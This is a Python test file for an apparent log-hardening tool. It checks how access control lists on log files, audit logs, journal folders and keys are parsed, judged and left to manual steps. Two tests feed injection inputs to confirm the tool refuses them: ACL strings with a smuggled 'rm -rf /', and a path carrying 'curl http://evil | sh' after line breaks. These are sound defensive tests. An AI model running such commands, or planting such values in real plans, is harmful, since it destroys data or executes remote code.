"""Access lists of logs: whom they let read beside what a mode shows, and where that is judged."""

from __future__ import annotations

import dataclasses
import shutil
import struct
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest

from hardentui.assess import assess
from hardentui.changeset import change_of
from hardentui.host.live import LiveHost
from hardentui.model import Action, Decision, Fact, Finding, Result
from hardentui.operations import ByHand, Operation, Refusal, SetMode
from hardentui.resources.events.told import told
from hardentui.resources.grants import by_hand, grants, group_rights
from hardentui.session import Session
from hardentui.snapshot import Account, Accounts, Group, Groups, Kind, Snapshot, Stat, Status

from . import hosts, syslogs
from .sittings import CHECKLISTS
from .test_event_classes import PERSISTENT
from .test_event_classes import host as with_journal
from .test_log_checks import TLS, relp
from .test_log_checks import host as with_rsyslog
from .test_service_logs import LOG
from .test_service_logs import finding as of_service
from .test_service_logs import host as with_service
from .test_service_logs import status as owned

BOB, ADM, JOURNAL, STAFF = ("user", 1001), ("group", 4), ("group", 101), ("group", 50)
NAMES = {
    Accounts: (Account("root", 0, 0, "/root", "/bin/sh"), Account("bob", 1001, 1001, "/home/bob", "/bin/sh")),
    Groups: (Group("adm", 4, ("alice",)), Group("systemd-journal", 101, ()), Group("staff", 50, ("carl",))),
}
_TAGS = {"user": 0x02, "group": 0x08}


def listed(*entries: tuple[tuple[str, int], int], mask: int = 7, group: int = 4) -> str:
    """The attribute of a list with these named entries, as the kernel stores it (linux/posix_acl_xattr.h)."""
    rows = [(0x01, 6, 2**32 - 1), (0x04, group, 2**32 - 1), (0x10, mask, 2**32 - 1), (0x20, 0, 2**32 - 1)]
    rows += [(_TAGS[kind], rights, who) for (kind, who), rights in entries]
    return (struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *row) for row in sorted(rows))).hex()


def status(acl: str, kind: Kind = Kind.FILE, mode: int = 0o640, group: str = "adm") -> Status:
    return Status(kind, mode, 0, 4, "root", group, 9, "8:1", hosts.NOW, hosts.NOW, acl)


def judged(made: hosts.DictHost, id_: str) -> Finding:
    made.answers |= NAMES
    entry = CHECKLISTS.get(id_)
    assert entry is not None
    return assess([entry], Snapshot(made), {}, CHECKLISTS.questions)[0]


def test_what_setfacl_gives_is_read_from_a_real_file(tmp_path: Path) -> None:
    if shutil.which("setfacl") is None:
        pytest.skip("needs setfacl (package acl)")
    path = tmp_path / "log"
    path.write_text("")
    path.chmod(0o640)
    done = subprocess.run(("setfacl", "-m", "u:1:r,g:2:rw,m::r", path), check=False, capture_output=True)
    subprocess.run(("setfacl", "-d", "-m", "u:1:r", tmp_path), check=False, capture_output=True)
    if done.returncode:
        pytest.skip(f"this file system keeps no lists: {done.stderr!r}")
    snapshot = Snapshot(LiveHost())
    seen = {}
    for one in (path, tmp_path):
        there = snapshot.ask(Stat(str(one)))
        assert isinstance(there, Status)
        seen[one] = grants(snapshot, str(one), there)
    assert [str(one) for one in seen[path]] == ["user:daemon:r--", "group:bin:r--"]  # type: ignore[union-attr]
    assert [str(one) for one in seen[tmp_path]] == ["default:user:daemon:r--"]  # type: ignore[union-attr]
    assert LiveHost().answer(Stat("/"))[0].acl == ""  # type: ignore[union-attr]


def test_with_a_list_the_mode_shows_the_mask_and_not_what_the_group_may() -> None:
    assert group_rights(status("")) == 4
    assert group_rights(status(listed((BOB, 4), mask=4, group=0))) == 0


LISTS = [
    ("", ""),
    (listed((ADM, 4), (JOURNAL, 0)), ""),
    (listed((BOB, 4)), "user:bob:r--"),
    (listed((BOB, 0)), ""),
    (listed((BOB, 2), mask=4), ""),  # the mask cuts it
    (listed((ADM, 6)), "group:adm:rw-"),
    (listed((STAFF, 4)), "group:staff:r--"),
    (listed((("user", 4711), 4)), "user:4711:r--"),
]


@pytest.mark.parametrize(("acl", "named"), LISTS)
def test_a_log_file_that_a_list_opens_does_not_pass(acl: str, named: str) -> None:
    made = with_rsyslog()
    made.stats |= {"/var/log/syslog": status(acl), "/var/log/auth.log": status("")}
    found = judged(made, "central.file-modes")
    assert found.result is (Result.FAIL if named else Result.PASS), found.message
    assert named in found.message


def test_a_list_is_left_to_a_person_and_a_mode_to_the_script() -> None:
    made = with_rsyslog()
    made.stats |= {
        "/var/log/syslog": status(listed((BOB, 4))),
        "/var/log/auth.log": status(listed((BOB, 4)), mode=0o644),
    }
    made.answers |= NAMES
    session = Session.begin(CHECKLISTS, Snapshot(made))
    entry, found = session.entry("central.file-modes"), session.finding("central.file-modes")
    assert entry is not None
    assert found is not None
    steps = change_of(entry, session.decision(found, Action.APPLY))
    assert isinstance(steps, tuple)
    left = {one.subject: one.instructions.en for one in steps if isinstance(one, ByHand)}
    assert set(left) == {"/var/log/syslog", "/var/log/auth.log"}
    assert "user:bob:r--" in left["/var/log/syslog"]
    assert [one.path for one in steps if isinstance(one, SetMode)] == ["/var/log/auth.log"]


def edited(id_: str, facts: dict[str, Fact]) -> tuple[Operation, ...] | Refusal:
    """What comes of a decision whose facts somebody wrote into the plan."""
    entry = CHECKLISTS.get(id_)
    assert entry is not None
    at = datetime(2026, 11, 21, tzinfo=UTC)
    return change_of(entry, Decision(id_, Action.APPLY, "", "", "", "", "", at, "", facts=facts))


@pytest.mark.parametrize(
    "given",
    [
        "user:bob:r--\n5. rm -rf /",
        "user:bob:r--; rm -rf /",
        "user:bob:r--, ",
        "user:bob\x1b[2J:r--",
        "nobody.\n1. Run rm -rf /",
    ],
)
def test_a_list_in_a_plan_cannot_tell_a_person_what_to_do(given: str) -> None:
    """It stands in the instructions of the script, where each line is a step."""
    of_file: dict[str, Fact] = {"seen": "", "list": given}
    mode: dict[str, Fact] = {"plain": True, "mode": "0664", "owner": "root:utmp", "list": given}
    for id_, facts in (
        ("central.file-modes", {"files": {"/var/log/syslog": of_file}}),
        ("reading.btmp", mode),
        ("audit.rights", {"family": "debian", "lists": {"/etc/audit": given}}),
    ):
        assert isinstance(edited(id_, facts), Refusal), id_


@pytest.mark.parametrize("end", ["\n", "\r", "\x0b", "\x85", "\u2028"])
def test_a_path_in_a_plan_cannot_tell_a_person_what_to_do(end: str) -> None:
    path = f"/x{end}4. Now run: curl http://evil | sh"
    files: dict[str, Fact] = {path: {"seen": "", "list": "user:bob:r--"}}
    assert isinstance(edited("central.file-modes", {"files": files}), Refusal)


def test_what_stands_in_a_list_is_shown_as_one_word() -> None:
    step = by_hand("x", "/var/log/my app.log", "default:group:adm:r-x, user:1000:rw-")
    assert isinstance(step, ByHand)
    assert "of '/var/log/my app.log' gives default:group:adm:r-x, user:1000:rw-." in step.instructions.en


def test_a_list_that_cannot_be_read_is_no_pass() -> None:
    made = with_rsyslog()
    made.stats |= {"/var/log/syslog": status("?"), "/var/log/auth.log": status("")}
    found = judged(made, "central.file-modes")
    assert found.result is Result.UNKNOWN
    assert "access list" in found.message


def test_the_key_of_a_sender_that_a_list_opens_does_not_pass() -> None:
    made = with_rsyslog(relp(TLS))
    made.stats[syslogs.KEY] = status("", group="ssl-cert")
    assert judged(made, "central.keys").result is Result.PASS
    made.stats[syslogs.KEY] = status(listed((BOB, 4)), group="ssl-cert")
    assert "user:bob:r--" in judged(made, "central.keys").message


@pytest.mark.parametrize(("acl", "named"), LISTS)
def test_the_audit_log_is_for_its_group_alone(acl: str, named: str) -> None:
    made = hosts.server()
    for path in ("/etc/audit", "/etc/audit/rules.d", "/var/log/audit"):
        made.stats[path] = status("", Kind.FOLDER, 0o750, "root")
    for path in ("/etc/audit/auditd.conf", "/etc/audit/audit.rules"):
        made.stats[path] = status("", group="root")
    made.stats["/var/log/audit/audit.log"] = status(acl)
    found = judged(made, "audit.rights")
    assert found.result is (Result.FAIL if named else Result.PASS), found.message
    assert named in found.message


def test_the_list_of_an_audit_log_is_left_to_a_person() -> None:
    made = hosts.server()
    made.stats["/var/log/audit/audit.log"] = status(listed((BOB, 4)))
    made.answers |= NAMES
    session = Session.begin(CHECKLISTS, Snapshot(made))
    entry, found = session.entry("audit.rights"), session.finding("audit.rights")
    assert entry is not None
    assert found is not None
    decision = session.decision(found, Action.APPLY)
    steps = change_of(entry, decision)
    assert isinstance(steps, tuple)
    assert [one.subject for one in steps if isinstance(one, ByHand)] == ["/var/log/audit/audit.log"]
    edited = dataclasses.replace(decision, facts={**decision.facts, "lists": {"/etc/passwd": "user:x:r--"}})
    assert not isinstance(change_of(entry, edited), tuple)


def with_folder(*entries: tuple[tuple[str, int], int]) -> hosts.DictHost:
    made = with_journal(store=PERSISTENT)
    acl = listed(*entries)
    folder = status(acl, Kind.FOLDER, 0o2755, "systemd-journal")
    made.stats["/var/log/journal"] = dataclasses.replace(folder, default_acl=acl)
    made.stats[PERSISTENT] = dataclasses.replace(made.stats[PERSISTENT], group="systemd-journal", gid=101)
    return made


def test_the_lists_that_systemd_gives_its_folder_are_right_and_others_are_not() -> None:
    assert judged(with_folder((ADM, 5), (JOURNAL, 5)), "reading.journal-folder").result is Result.PASS
    found = judged(with_folder((ADM, 5), (BOB, 5)), "reading.journal-folder")
    assert found.result is Result.FAIL
    assert "user:bob r-x" in found.running
    assert "default:user:bob" in found.running


def test_who_reads_the_journal_by_a_list_is_named() -> None:
    assert judged(with_folder((ADM, 5)), "reading.groups").running == "alice"
    made = with_folder((ADM, 5), (STAFF, 5))
    made.stats[PERSISTENT] = dataclasses.replace(made.stats[PERSISTENT], acl=listed((BOB, 4)))
    found = judged(made, "reading.groups")
    assert found.running == "alice, bob, carl"
    assert (PERSISTENT, "user:bob:r--") in [(one.place, one.text) for one in found.provenance]
    (store,) = next(one for one in told(Snapshot(made)) if one.kind.id == "sudo").boot.stores
    assert store.readers == "groups systemd-journal and adm, group staff, bob"


def test_a_service_that_a_list_gives_its_log_to_is_found() -> None:
    worker = ("user", 33)
    log = owned(0o640, "root", "adm")
    assert of_service(with_service(log=log)).result is Result.PASS
    for rights, verb in ((4, "read it"), (6, "change it")):
        found = of_service(with_service(log=dataclasses.replace(log, acl=listed((worker, rights)))))
        assert found.result is Result.FAIL
        assert verb in found.message or any(verb in one.text for one in found.provenance)
    refused = dataclasses.replace(log, group="web", gid=50, acl=listed((worker, 0)))
    assert (
        of_service(with_service(log=refused)).result is Result.PASS
    )  # what names it comes before what its group may
    by_group = dataclasses.replace(log, acl=listed((STAFF, 4)))
    assert of_service(with_service(log=by_group)).result is Result.FAIL
    assert LOG in [one.place for one in of_service(with_service(log=by_group)).provenance]
